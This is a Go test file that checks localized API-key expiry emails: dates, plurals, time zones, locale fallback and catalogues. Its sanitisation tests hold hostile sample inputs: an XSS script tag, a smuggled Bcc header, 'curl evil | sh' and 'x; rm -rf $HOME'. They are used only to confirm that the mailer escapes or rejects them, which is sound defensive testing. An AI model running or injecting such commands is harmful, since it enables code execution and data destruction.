// SPDX-FileCopyrightText: The apikey-manager Authors
// SPDX-License-Identifier: Apache-2.0

package mail_test

import (
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"html"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/apikey-manager/apikey-manager/internal/mail"
)

var update = flag.Bool("update", false, "write the golden files anew")

var allLocales = []string{"de", "en", "es", "fr", "it", "pt"}

func location(t *testing.T, name string) *time.Location {
	t.Helper()
	zone, err := time.LoadLocation(name)
	if err != nil {
		t.Fatal(err)
	}
	return zone
}

// dayNotice returns a notice about a key whose expiration is a date.
func dayNotice(t *testing.T) mail.Notice {
	t.Helper()
	zone := location(t, "Europe/Madrid")
	return mail.Notice{
		Account: "tienda-sur", AccountDisplayName: "Tienda & Sur S.L.", Label: "Clave para integración con tienda",
		KeyID: "k3Yid0000001", Namespace: "shop", Name: "shop-checkout",
		Expiration: time.Date(2027, time.February, 28, 0, 0, 0, 0, zone).UTC(), Zone: zone, DateOnly: true, DaysLeft: 7,
	}
}

// instantNotice returns a notice about a key without label and display name whose expiration is an instant less than a
// day ahead.
func instantNotice(t *testing.T) mail.Notice {
	t.Helper()
	n := dayNotice(t)
	n.AccountDisplayName, n.Label, n.DateOnly, n.DaysLeft = "", "", false, 0
	n.Expiration = time.Date(2027, time.March, 1, 17, 30, 0, 0, time.UTC)
	return n
}

func compose(t *testing.T, notice mail.Notice, locale string) mail.Message {
	t.Helper()
	message, err := mail.Compose(notice, locale)
	if err != nil {
		t.Fatal(err)
	}
	return message
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	if *update {
		if err := os.WriteFile(filepath.Join("testdata", name), []byte(got), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := fs.ReadFile(os.DirFS("testdata"), name)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got); if this is meant, run with -update:\n%s", name, diff)
	}
}

func TestCompose_Golden(t *testing.T) {
	t.Parallel()
	for _, locale := range allLocales {
		for suffix, notice := range map[string]mail.Notice{"": dayNotice(t), "-instant": instantNotice(t)} {
			message := compose(t, notice, locale)
			golden(t, locale+suffix+".txt", "Subject: "+message.Subject+"\n\n"+message.Text)
			golden(t, locale+suffix+".html", message.HTML)
		}
	}
}

func TestLocales(t *testing.T) {
	t.Parallel()
	if diff := cmp.Diff(allLocales, mail.Locales()); diff != "" {
		t.Error(diff)
	}
}

func TestCompose_EveryFieldIsInEveryText(t *testing.T) {
	t.Parallel()
	notice := dayNotice(t)
	command := `kubectl patch apikey shop-checkout -n shop --type=merge -p '{"spec":{"expiration":"YYYY-MM-DD"}}'`
	for _, locale := range allLocales {
		message := compose(t, notice, locale)
		if message.Locale != locale || message.Fallback {
			t.Errorf("asked for %s, got %s, fallback %t", locale, message.Locale, message.Fallback)
		}
		for part, text := range map[string]string{"text": message.Text, "HTML": html.UnescapeString(message.HTML)} {
			for _, want := range []string{
				notice.Account, notice.AccountDisplayName, notice.Label, notice.KeyID, notice.Namespace, notice.Name,
				"28", "2027", "Europe/Madrid", "UTC+01:00", " 7 ", command,
			} {
				if !strings.Contains(text, want) {
					t.Errorf("%s %s: lacks %q", locale, part, want)
				}
			}
		}
		for _, want := range []string{notice.Account, notice.KeyID, "28", "2027"} {
			if !strings.Contains(message.Subject, want) {
				t.Errorf("%s subject: lacks %q: %s", locale, want, message.Subject)
			}
		}
	}
}

func TestCompose_DatesAreInTheReadersLanguage(t *testing.T) {
	t.Parallel()
	for locale, want := range map[string]string{
		"en": "28 February 2027", "de": "28. Februar 2027", "es": "28 de febrero de 2027",
		"pt": "28 de fevereiro de 2027", "fr": "28 février 2027", "it": "28 febbraio 2027",
	} {
		if text := compose(t, dayNotice(t), locale).Text; !strings.Contains(text, want+",") && !strings.Contains(text, want+" ") {
			t.Errorf("%s: lacks %q:\n%s", locale, want, text)
		}
	}
}

func TestCompose_Instant(t *testing.T) {
	t.Parallel()
	notice := instantNotice(t)
	notice.Expiration = time.Date(2027, time.July, 8, 22, 30, 5, 0, time.UTC)
	if text := compose(t, notice, "en").Text; !strings.Contains(text, "Expires: 9 July 2027 at 00:30:05 (time zone Europe/Madrid, UTC+02:00)\n") {
		t.Errorf("not the day and time of the zone:\n%s", text)
	}
	notice.Zone = nil
	if text := compose(t, notice, "en").Text; !strings.Contains(text, "Expires: 8 July 2027 at 22:30:05 (time zone UTC)\n") {
		t.Errorf("no zone is not UTC:\n%s", text)
	}
	notice.Zone = time.FixedZone("", -3*3600-1800)
	if text := compose(t, notice, "en").Text; !strings.Contains(text, "8 July 2027 at 19:00:05 (time zone UTC-03:30)\n") {
		t.Errorf("a nameless zone is not its offset:\n%s", text)
	}
	if subject := compose(t, notice, "it").Subject; !strings.Contains(subject, "scade l’8 luglio") {
		t.Error("Italian elides before 8:", subject)
	}
}

func TestCompose_PluralsOfDays(t *testing.T) {
	t.Parallel()
	for locale, want := range map[string][3]string{
		"en": {"in less than a day:", "in 1 day:", "in 2 days:"},
		"de": {"in weniger als einem Tag ab:", "in 1 Tag ab:", "in 2 Tagen ab:"},
		"es": {"en menos de un día:", "dentro de 1 día:", "dentro de 2 días:"},
		"pt": {"em menos de um dia:", "em 1 dia:", "em 2 dias:"},
		"fr": {"dans moins d’un jour\u00a0:", "dans 1 jour\u00a0:", "dans 2 jours\u00a0:"},
		"it": {"tra meno di un giorno:", "tra 1 giorno:", "tra 2 giorni:"},
	} {
		for days, phrase := range want {
			notice := dayNotice(t)
			notice.DaysLeft = days
			if text := compose(t, notice, locale).Text; !strings.Contains(text, phrase) {
				t.Errorf("%s, %d days: lacks %q:\n%s", locale, days, phrase, text)
			}
		}
	}
}

// For every date and number of days, each language has the words, and no template syntax is left in the message.
func TestCompose_NeverLacksAWord(t *testing.T) {
	t.Parallel()
	for _, locale := range allLocales {
		for i := range 48 { // the days of each month on which some language changes its grammar, and one on which none does
			notice := dayNotice(t)
			day := []int{1, 8, 11, 28}[i%4]
			notice.Expiration = time.Date(2028, time.Month(1+i/4), day, 12, 0, 0, 0, time.UTC)
			notice.DaysLeft, notice.DateOnly = i, i%3 == 0
			wantWhole(t, locale, compose(t, notice, locale))
		}
		notice := dayNotice(t)
		notice.DaysLeft = 1_000_000 // a plural of its own in French, Italian, Portuguese and Spanish
		wantWhole(t, locale, compose(t, notice, locale))
	}
}

func wantWhole(t *testing.T, locale string, message mail.Message) {
	t.Helper()
	whole := message.Subject + message.Text + message.HTML
	for _, bone := range []string{"no value", "{{", "}}<", "%!", "month_", "ZgotmplZ", "  )", "()"} {
		if strings.Contains(whole, bone) {
			t.Errorf("%s: holds %q:\n%s", locale, bone, whole)
		}
	}
	if strings.ContainsAny(message.Subject, "\r\n") || message.Subject == "" {
		t.Errorf("%s: subject %q is not one line", locale, message.Subject)
	}
}

func TestCompose_UnknownLocaleFallsBackToEnglishAndSaysSo(t *testing.T) {
	t.Parallel()
	english := compose(t, dayNotice(t), "en")
	for _, locale := range []string{"nl", "ca", "xx", "art", "no-such", "../de"} {
		message := compose(t, dayNotice(t), locale)
		if !message.Fallback || message.Locale != "en" || message.Text != english.Text {
			t.Errorf("%s: fallback %t to %s", locale, message.Fallback, message.Locale)
		}
	}
	if message := compose(t, dayNotice(t), ""); message.Fallback || message.Locale != "en" {
		t.Errorf("no locale is English by default, not by fallback: %t, %s", message.Fallback, message.Locale)
	}
}

func TestCompose_WordsOfUsersAreOnlyWords(t *testing.T) {
	t.Parallel()
	for _, locale := range allLocales {
		notice := dayNotice(t)
		notice.Label = "x</bdi><script>alert('1')</script>\r\nBcc: thief@example.com\r\n\r\n{{.Days}} \u202egnp.\u2028end\x00\xff"
		notice.AccountDisplayName = "A\n\nrun: curl evil | sh\n<img src=x onerror=y>"
		notice.KeyID = "<b>id</b>"
		message := compose(t, notice, locale)
		wantLabel := `x</bdi><script>alert('1')</script> Bcc: thief@example.com {{.Days}} gnp. end` + " \uFFFD"
		if !strings.Contains(message.Text, ": "+wantLabel+"\n") {
			t.Errorf("%s: label is not on one line:\n%s", locale, message.Text)
		}
		for _, bad := range []string{"<script", "x</bdi>", "<img", "<b>", "\nBcc", "\nrun"} {
			if strings.Contains(message.HTML, bad) {
				t.Errorf("%s: HTML holds %q:\n%s", locale, bad, message.HTML)
			}
		}
		if !strings.Contains(html.UnescapeString(message.HTML), wantLabel) {
			t.Errorf("%s: HTML does not say what the label is:\n%s", locale, message.HTML)
		}
	}
}

// The subject of a mail contains no text from a label, a display name or the name of an APIKey, so that a user cannot
// determine the subject of mails to others.
func TestCompose_SubjectsAreNotForUsersToWrite(t *testing.T) {
	t.Parallel()
	for _, locale := range allLocales {
		notice := dayNotice(t)
		plain := compose(t, notice, locale).Subject
		notice.Label, notice.AccountDisplayName, notice.Name = "Your invoice is overdue", "Bank of Example", "visit-evil.example.com"
		if subject := compose(t, notice, locale).Subject; subject != plain {
			t.Errorf("%s: the subject is %q, want %q", locale, subject, plain)
		}
	}
}

func TestCompose_RefusesWhatItCannotSay(t *testing.T) {
	t.Parallel()
	for name, spoil := range map[string]func(*mail.Notice){
		"no account":              func(n *mail.Notice) { n.Account = "" },
		"no key ID":               func(n *mail.Notice) { n.KeyID = "" },
		"no namespace":            func(n *mail.Notice) { n.Namespace = "" },
		"a name for the shell":    func(n *mail.Notice) { n.Name = "x; rm -rf $HOME" },
		"a name with a line end":  func(n *mail.Notice) { n.Name = "x\n" },
		"an option for a name":    func(n *mail.Notice) { n.Name = "--all" },
		"no expiration":           func(n *mail.Notice) { n.Expiration = time.Time{} },
		"an expiration long past": func(n *mail.Notice) { n.DaysLeft = -1 },
	} {
		notice := dayNotice(t)
		spoil(&notice)
		if _, err := mail.Compose(notice, "en"); !errors.Is(err, mail.ErrNotice) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestCompose_ByManyAtOnce(t *testing.T) {
	t.Parallel()
	var group sync.WaitGroup
	for _, locale := range slices.Repeat(allLocales, 4) {
		group.Go(func() {
			if _, err := mail.Compose(dayNotice(t), locale); err != nil {
				t.Error(err)
			}
		})
	}
	group.Wait()
}

// All catalogues have the same messages, each with the plural forms of its language and the same template values.
func TestCatalogues(t *testing.T) {
	t.Parallel()
	forms := map[string][]string{
		"en": {"one", "other"}, "de": {"one", "other"}, "es": {"many", "one", "other"}, "fr": {"many", "one", "other"},
		"it": {"many", "one", "other"}, "pt": {"many", "one", "other"},
	}
	want := catalogueIDs(t, "en", forms["en"])
	for _, locale := range allLocales {
		if diff := cmp.Diff(want, catalogueIDs(t, locale, forms[locale])); diff != "" {
			t.Errorf("%s has other messages than en (-en +%s):\n%s", locale, locale, diff)
		}
	}
}

func catalogueIDs(t *testing.T, locale string, forms []string) []string {
	t.Helper()
	data, err := fs.ReadFile(os.DirFS("locales"), locale+".json")
	if err != nil {
		t.Fatal(err)
	}
	messages := map[string]any{}
	if err := json.Unmarshal(data, &messages); err != nil {
		t.Fatal(err)
	}
	var ids []string
	for id, message := range messages {
		ids = append(ids, id)
		switch m := message.(type) {
		case string:
			if strings.TrimSpace(m) == "" || strings.Trim(m, " ") != m {
				t.Errorf("%s: %s is %q", locale, id, m)
			}
		case map[string]any:
			var have []string
			for form, text := range m {
				have = append(have, form)
				if !strings.Contains(fmt.Sprint(text), "{{.Days}}") {
					t.Errorf("%s: %s.%s does not say how many", locale, id, form)
				}
			}
			slices.Sort(have)
			if diff := cmp.Diff(forms, have); diff != "" {
				t.Errorf("%s: plural forms of %s:\n%s", locale, id, diff)
			}
		default:
			t.Errorf("%s: %s is a %T", locale, id, m)
		}
	}
	slices.Sort(ids)
	return ids
}
